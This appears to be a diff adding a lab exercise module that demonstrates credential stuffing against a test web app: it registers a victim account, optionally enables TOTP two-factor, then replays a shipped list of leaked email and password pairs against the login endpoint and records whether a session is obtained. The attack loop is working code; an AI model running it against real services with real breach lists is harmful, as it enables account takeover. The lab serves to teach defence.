@@ -1,0 +1,55 @@
+"""Credential stuffing: email and password pairs leaked by another site, tried here.
+
+Erin used the same password on a site that was breached; the pairs are
+sold as lists. The attacker tries every pair of a (tiny, shipped) list
+here: nothing is guessed, so rate limits barely notice. Where Erin's pair
+works, the attacker is in, unless her account asks for a second factor
+that no breach of another site could have leaked.
+"""
+from pathlib import Path
+
+import pyotp
+
+import lab
+
+WEAK = "previous"       # step 06: a password is all it takes
+MAX_REQUESTS = 16
+MAX_SECONDS = 30
+
+LEAKED = Path(__file__).with_name("leaked_pairs.txt")
+VICTIM = {"username": "erin", "email": "erin@example.com", "password": "purple monkey dishwasher"}
+
+
+def attack(target):
+    target.verified_user(**VICTIM)
+    evidence = [erin_turns_on_two_factor(target)]
+    attacker = target.client("stuffer")
+    for line in LEAKED.read_text(encoding="utf-8").splitlines():
+        if not line or line.startswith("#"):
+            continue
+        email, password = line.split(":", 1)
+        answer = attacker.post("/auth/login", json={"username": email, "password": password})
+        if answer.status == 200:
+            me = attacker.get("/auth/me")
+            evidence += [f"the leaked pair for {email}: 200 {answer.text.strip()}",
+                         f"the attacker's GET /auth/me: {me.status}"
+                         + (" (Erin's account)" if me.status == 200 else " (no session without her code)")]
+            return lab.Outcome(got_through=me.status == 200, evidence=evidence)
+        evidence.append(f"the leaked pair for {email}: {answer.status}")
+    return lab.Outcome(got_through=False, evidence=evidence)
+
+
+def erin_turns_on_two_factor(target):
+    """Erin, in her own browser, turns two-factor on if the app offers it; what happened, in words."""
+    erin = target.client("erin")
+    erin.post("/auth/login", json={"username": VICTIM["username"], "password": VICTIM["password"]})
+    setup = erin.post("/auth/2fa/setup", json={"password": VICTIM["password"]})
+    if setup.status == 404:
+        erin.post("/auth/logout")
+        return "Erin looked for two-factor: this app has none (POST /auth/2fa/setup: 404)"
+    code = pyotp.TOTP(setup.json["secret"]).now()  # what her authenticator app shows
+    confirmed = erin.post("/auth/2fa/confirm", json={"code": code})
+    erin.post("/auth/logout")
+    if confirmed.status != 200:
+        raise lab.Missing(f"Erin could not turn two-factor on: {confirmed.status} {confirmed.text.strip()[:200]}")
+    return "Erin turned two-factor on (an authenticator app)"
